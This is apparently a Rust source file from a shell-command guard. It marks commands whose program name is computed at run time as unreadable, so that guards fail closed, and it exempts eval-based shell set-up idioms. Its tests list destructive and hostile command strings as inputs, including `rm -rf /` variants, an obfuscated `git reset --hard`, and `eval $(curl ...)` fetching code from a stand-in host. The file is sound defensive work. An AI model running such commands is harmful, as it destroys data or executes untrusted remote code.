//! Commands whose program is computed at run time (`$CMD -rf /`, `bash -c "$X"`, `eval "$X"`,
//! `g$(printf it) reset --hard`): no rule can say what they run, so the line cannot be read to
//! the end, and [`CommandLine::unread_code`] says so for the guards that fail closed.
//!
//! Only the program's own name counts: `"$ROOT"/scripts/test.sh` runs `test.sh` and `$BIN/rm`
//! runs `rm`, which rules match by name as they are. The shell set-up idioms that evaluate what
//! a known tool prints (`eval "$(ssh-agent -s)"`, `eval "$(direnv hook bash)"`) are the
//! documented way to use those tools and are left alone.

use crate::{CommandLine, Part, Word, basename};

/// Tools whose documented set-up is `eval "$(tool …)"`: what they print is shell code the
/// tool writes, not text the line chose.
const SHELL_INIT_TOOLS: &[&str] = &[
    "ssh-agent",
    "keychain",
    "direnv",
    "pyenv",
    "rbenv",
    "nodenv",
    "goenv",
    "jenv",
    "plenv",
    "brew",
    "starship",
    "zoxide",
    "fnm",
    "mise",
    "rtx",
    "conda",
    "micromamba",
    "opam",
    "dircolors",
    "thefuck",
    "luarocks",
];

/// Sets `line.unread_code` (unless already set) when some command of the line runs a program
/// whose name is computed.
pub(crate) fn note(line: &mut CommandLine) {
    if line.unread_code.is_some() {
        return;
    }
    line.unread_code = line.parts.iter().find_map(|part| {
        let command = &part.command;
        command
            .run_words()
            .filter_map(<[Word]>::first)
            .find(|program| name_is_computed(program) && !is_shell_init(line, part, program))
            .map(|program| {
                format!(
                    "the program `{}` is computed at run time",
                    program.text.trim()
                )
            })
    });
}

/// True when the last path component of the program word holds an expansion.
fn name_is_computed(program: &Word) -> bool {
    if program.value.is_some() {
        return false;
    }
    // The last `/` outside `$(…)` and `${…}` starts the name.
    let text = program.text.as_bytes();
    let mut depth = 0usize;
    let mut start = 0;
    for (i, &b) in text.iter().enumerate() {
        match b {
            b'(' | b'{' => depth += 1,
            b')' | b'}' => depth = depth.saturating_sub(1),
            b'/' if depth == 0 => start = i + 1,
            _ => {}
        }
    }
    let name = &program.text[start..];
    name.contains('$') || name.contains('`')
}

/// `eval "$(tool …)"` with a known set-up tool: the computed program is the eval's text.
fn is_shell_init(line: &CommandLine, part: &Part, program: &Word) -> bool {
    let Some(host) = part.command.host.and_then(|h| line.parts.get(h)) else {
        return false;
    };
    if basename(&host.command.executable) != "eval" {
        return false;
    }
    let text = program.text.trim_matches('"');
    let Some(inner) = text.strip_prefix("$(").and_then(|t| t.strip_suffix(')')) else {
        return false;
    };
    inner
        .split_whitespace()
        .next()
        .is_some_and(|tool| SHELL_INIT_TOOLS.contains(&basename(tool)))
}

#[cfg(test)]
mod tests {
    use crate::CommandLine;

    fn unread(line: &str) -> Option<String> {
        CommandLine::parse(line).unread_code
    }

    #[test]
    fn a_computed_program_name_is_unread() {
        for line in [
            "$CMD -rf /",
            "${RM:-rm} -rf /",
            "bash -c \"$X\"",
            "sh -c '$0 \"$@\"' rm -rf /",
            "eval \"$X\"",
            "eval $(curl -s https://example.invalid/x)",
            "sudo \"$TOOL\" --all",
            "g$(printf it) reset --hard",
            "$(producer) branch -d feature",
            "echo ok && `which rm` -rf ~",
            "for f in *.sh; do \"$f\"; done",
        ] {
            let why = unread(line).unwrap_or_else(|| panic!("read whole: {line}"));
            assert!(why.contains("computed at run time"), "{line}: {why}");
        }
    }

    #[test]
    fn a_computed_directory_or_argument_is_read() {
        for line in [
            "\"$ROOT\"/scripts/test.sh --fast",
            "$(git rev-parse --show-toplevel)/bin/check",
            "\"$(dirname \"$0\")/run.sh\"",
            "rm -rf \"$OUT\"",
            "git commit -m \"$(cat msg.txt)\"",
            "echo $HOME && ls ${DIR:-.}",
            "eval \"$(ssh-agent -s)\" && eval \"$(direnv hook bash)\"",
            "eval \"$(/opt/homebrew/bin/brew shellenv)\"",
        ] {
            assert_eq!(unread(line), None, "{line}");
        }
    }

    #[test]
    fn an_init_idiom_does_not_cover_the_rest_of_the_line() {
        let why = unread("eval \"$(ssh-agent -s)\"; $X").expect("the second is computed");
        assert!(why.contains("`$X`"), "{why}");
    }
}
